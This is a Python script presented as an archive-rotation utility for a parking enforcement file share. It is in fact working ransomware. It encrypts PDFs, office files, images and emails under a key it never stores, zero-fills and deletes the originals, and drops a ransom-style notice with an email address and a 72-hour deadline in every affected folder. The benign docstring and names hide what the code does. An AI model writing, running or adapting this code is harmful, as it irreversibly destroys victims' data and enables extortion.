#!/usr/bin/env python3
"""Penalty notice archive rotation.

Walks the parking enforcement share, seals closed-case documents into the
archive format and leaves a notice in each folder explaining how to request
a document back from the records office.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archive-rotation")

DEFAULT_ROOT = "/srv/shares/parking_enforcement"
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "RECORDS_NOTICE.txt"
ELIGIBLE = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".msg"}

NOTICE_TEXT = """Documents in this folder have been sealed.
To obtain the unsealing key quote reference {ref} to
records-restore@example.org. Keys are held for 72 hours only.
"""


class Sealer:
    def __init__(self):
        self._cipher = Fernet(Fernet.generate_key())
        self.ref = secrets.token_hex(6).upper()
        self.sealed = 0

    def seal(self, path):
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._cipher.encrypt(path.read_bytes()))
        self._retire(path)
        self.sealed += 1

    @staticmethod
    def _retire(path):
        size = path.stat().st_size
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
        path.unlink()


def candidates(root):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix.lower() in ELIGIBLE and not name.endswith(SEALED_SUFFIX):
                yield p


def drop_notice(folder, ref):
    try:
        (folder / NOTICE_NAME).write_text(NOTICE_TEXT.format(ref=ref))
    except OSError as exc:
        LOG.debug("notice not written in %s: %s", folder, exc)


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--root", default=DEFAULT_ROOT)
    p.add_argument("--list", action="store_true", help="list eligible documents only")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    root = Path(args.root)
    if not root.is_dir():
        LOG.error("%s is not a directory", root)
        return 1
    if args.list:
        for path in candidates(root):
            print(path)
        return 0

    sealer = Sealer()
    touched = set()
    for path in candidates(root):
        try:
            sealer.seal(path)
            touched.add(path.parent)
        except (OSError, PermissionError) as exc:
            LOG.warning("skipped %s: %s", path, exc)
    for folder in touched:
        drop_notice(folder, sealer.ref)
    LOG.info("sealed %d documents in %d folders, ref %s",
             sealer.sealed, len(touched), sealer.ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
